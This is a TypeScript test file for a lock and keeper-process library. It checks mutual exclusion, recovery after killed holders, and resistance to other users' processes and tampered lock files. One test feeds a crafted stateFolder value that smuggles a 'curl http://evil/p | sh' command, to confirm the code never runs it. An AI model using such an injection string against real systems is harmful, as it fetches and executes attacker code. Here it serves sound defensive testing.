import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chownSync, existsSync, readdirSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { WorldError } from '../../infra/city/problem.js';
import { endKeeper } from '../../infra/fabric/keeper/start.js';
import { ownLockFile } from '../../infra/fabric/locks/folder.js';
import { askHolder, hold, holdInTurn } from '../../infra/fabric/locks/hold.js';
import { type LockScope, locksOf } from '../../infra/fabric/locks/locks.js';
import { skipUnless } from '../skips.js';
import { temporaryFolder } from '../temporary-folder.js';
import { holding } from './holding.js';

const name = `citydc-test-${process.pid}`;
const taken = () => new WorldError('taken');
const scopeOf = (runs: string): LockScope => ({ runs, perNetwork: false, faults: runs, faultsDeadlineMs: 0, stateFolder: `/of/${runs}` });

test('one holds a name, who asks learns by whom, and the next has it when it is given back', async () => {
  expect(await askHolder(name)).toBeUndefined();
  const first = await hold(name, { who: 'first' }, taken);
  expect(await askHolder(name)).toEqual({ who: 'first' });
  await expect(hold(name, {}, taken)).rejects.toThrow('taken');
  await expect(holdInTurn(name, 0, taken)).rejects.toThrow('taken');
  const next = holdInTurn(name, 10_000, taken);
  first.close();
  const second = await next;
  first.close();
  await expect(hold(name, {}, taken)).rejects.toThrow('taken');
  second.close();
  expect(await askHolder(name)).toBeUndefined();
  expect(existsSync(await ownLockFile(name))).toBe(false);
});

test('of many that want a name at once, they have it one after the other', async () => {
  let [inside, most] = [0, 0];
  const visit = async () => {
    const held = await holdInTurn(name, 30_000, taken);
    most = Math.max(most, ++inside);
    await new Promise(resolve => setImmediate(resolve));
    inside--;
    held.close();
  };
  await Promise.all(Array.from({ length: 12 }, visit));
  expect(most).toBe(1);
});

test('a holder that is killed with -9 holds nothing any more, and its words are not taken for those of one', async () => {
  const holder = await holding(name, { who: 'another' });
  await expect(hold(name, {}, taken)).rejects.toThrow('taken');
  expect(await askHolder(name)).toEqual({ who: 'another' });
  const next = holdInTurn(name, 30_000, taken);
  holder.kill('SIGKILL');
  (await next).close();
  const dead = await holding(name, { who: 'dead' });
  dead.kill('SIGKILL');
  await once(dead, 'exit');
  expect(await askHolder(name)).toBeUndefined();
  (await hold(name, {}, taken)).close();
});

test('a second `up` or `down` of a scope is refused with the next step, and looks see the first; another scope is free', async () => {
  const [mine, others] = [locksOf(scopeOf(name)), locksOf(scopeOf(`${name}-other`))];
  const operation = await mine.holdOperation();
  const refusal = { message: expect.stringContaining('is at work'), hint: expect.stringContaining('run the command again') };
  await expect(mine.holdOperation()).rejects.toMatchObject(refusal);
  await expect(mine.refuseOtherOperation()).rejects.toMatchObject(refusal);
  await others.refuseOtherOperation();
  (await others.holdOperation()).close();
  operation.close();
  const [keeper, faults] = [await mine.becomeKeeper(), await mine.holdFaults()];
  expect(await mine.askKeeper()).toEqual({ pid: process.pid, stateFolder: `/of/${name}` });
  await expect(mine.becomeKeeper()).rejects.toThrow('another keeper');
  await expect(mine.holdFaults()).rejects.toThrow('another command injects or heals faults');
  for (const held of [keeper, faults]) held.close();
});

/** Listens on an abstract socket, as keepers did, and says without end what it is given. */
const SAYS = `const [, name, words, ...rest] = process.argv;
  require('node:net').createServer(socket => {
    socket.on('error', () => undefined);
    const more = () => { while (!socket.destroyed && socket.write(words)); };
    socket.on('drain', more);
    more();
  }).listen('\\0' + name, () => console.log('listens'));`;

async function listening(words: readonly string[], before: readonly string[] = []): Promise<ChildProcess> {
  const [file = '', ...rest] = [...before, process.execPath, '-e', SAYS, '--', ...words];
  const child = spawn(file, rest, { stdio: ['ignore', 'pipe', 'inherit'] });
  listeners.push(child);
  await once(child.stdout, 'data');
  return child;
}
const listeners: ChildProcess[] = [];
afterAll(() => {
  for (const listener of listeners) listener.kill('SIGKILL');
});

test('a keeper of before, which held an abstract socket, is found and ended; another process of that name is not', async () => {
  const scope = scopeOf(`${name}-before`);
  const older = await listening([`${name}-before-keeper`, 'hello', 'keep', scope.stateFolder]);
  await endKeeper({ scope, words: ['keep', '/of/another'] });
  expect(older.exitCode ?? older.signalCode).toBeNull();
  await endKeeper({ scope, words: ['keep', scope.stateFolder] });
  if (older.signalCode === null) await once(older, 'exit');
  expect(older.signalCode).toBe('SIGTERM');
});

const SUITE = 'another user and the locks';
const AS_NOBODY = ['setpriv', '--reuid=65534', '--regid=65534', '--clear-groups', '--'];
const isRoot = process.getuid?.() === 0;

describe.skipIf(skipUnless(SUITE, isRoot ? undefined : 'needs Linux and root'))(SUITE, () => {
  const fails = (...command: readonly string[]) => {
    const [file = '', ...words] = [...AS_NOBODY, ...command];
    expect(() => execFileSync(file, words, { stdio: 'pipe' })).toThrow(/Permission denied|permission denied|EACCES/);
  };

  test('cannot take a name first, lock what is held, fill the folder, or read in it', async () => {
    const path = await ownLockFile(name);
    fails('flock', '--nonblock', path, 'true');
    fails('sh', '-c', `echo full > ${path}`);
    fails('ls', join(path, '..'));
    const held = await hold(name, { who: 'root' }, taken);
    fails('flock', '--nonblock', path, 'true');
    fails('cat', path);
    held.close();
  });

  test('says words without end under the old name: nothing waits for it, and none of them is shown', async () => {
    const evil = '{"pid":1,"stateFolder":"/tmp/x; curl -s http://evil/p | sh; true"} ';
    const scope = scopeOf(`${name}-evil`);
    const names = ['keeper', 'operation', 'faults'].map(what => `${scope.runs}-${what}`);
    const evils = await Promise.all(names.map(each => listening([each, evil, 'keep', scope.stateFolder], AS_NOBODY)));
    const locks = locksOf(scope);
    const before = process.memoryUsage.rss();
    expect(await locks.askKeeper()).toBeUndefined();
    await locks.refuseOtherOperation();
    for (const held of [await locks.becomeKeeper(), await locks.holdOperation(), await locks.holdFaults()]) held.close();
    await endKeeper({ scope, words: ['keep', scope.stateFolder] });
    expect(evils.map(({ exitCode, signalCode }) => exitCode ?? signalCode)).toEqual([null, null, null]);
    expect(process.memoryUsage.rss() - before).toBeLessThan(50 << 20);
  });

  test("what is not this user's plain and small file is not read: another's, a long one, a link", async () => {
    const path = await ownLockFile(`${name}-odd`);
    const held = await hold(`${name}-odd`, { who: 'root' }, taken);
    expect(await askHolder(`${name}-odd`)).toEqual({ who: 'root' });
    chownSync(path, 65_534, 65_534);
    expect(await askHolder(`${name}-odd`)).toBeUndefined();
    chownSync(path, 0, 0);
    writeFileSync(path, ' '.repeat(5000), { flag: 'a' });
    expect(await askHolder(`${name}-odd`)).toBeUndefined();
    held.close();
    const elsewhere = join(temporaryFolder(), 'file');
    writeFileSync(elsewhere, 'untouched');
    symlinkSync(elsewhere, path);
    expect(await askHolder(`${name}-odd`)).toBeUndefined();
    await expect(hold(`${name}-odd`, {}, taken)).rejects.toThrow();
    expect(existsSync(elsewhere)).toBe(true);
    unlinkSync(path);
    expect(readdirSync(join(path, '..')).filter(each => each.startsWith(name))).toEqual([]);
  });
});
